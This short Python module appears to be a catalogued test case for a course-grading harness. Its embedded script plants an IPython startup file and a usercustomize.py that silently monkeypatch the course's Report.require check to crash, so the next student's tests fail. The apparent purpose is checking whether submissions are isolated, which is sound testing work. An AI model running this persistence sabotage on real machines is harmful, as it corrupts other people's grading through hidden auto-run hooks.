"""Leaves a start-up file for IPython, and a usercustomize, by which the next student's tests fail (78)."""

GROUP = "verdict"
CATALOGUE = (78,)
CODE = '''
import pathlib, site

bad = """
try:
    from bncourse.checks import Report

    Report.require = lambda self: 1 / 0
except Exception:
    pass
"""
home, user = pathlib.Path.home(), pathlib.Path(site.getusersitepackages())
for path in (home / ".ipython/profile_default/startup/00.py", user / "usercustomize.py"):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(bad)
    except OSError:
        pass
'''
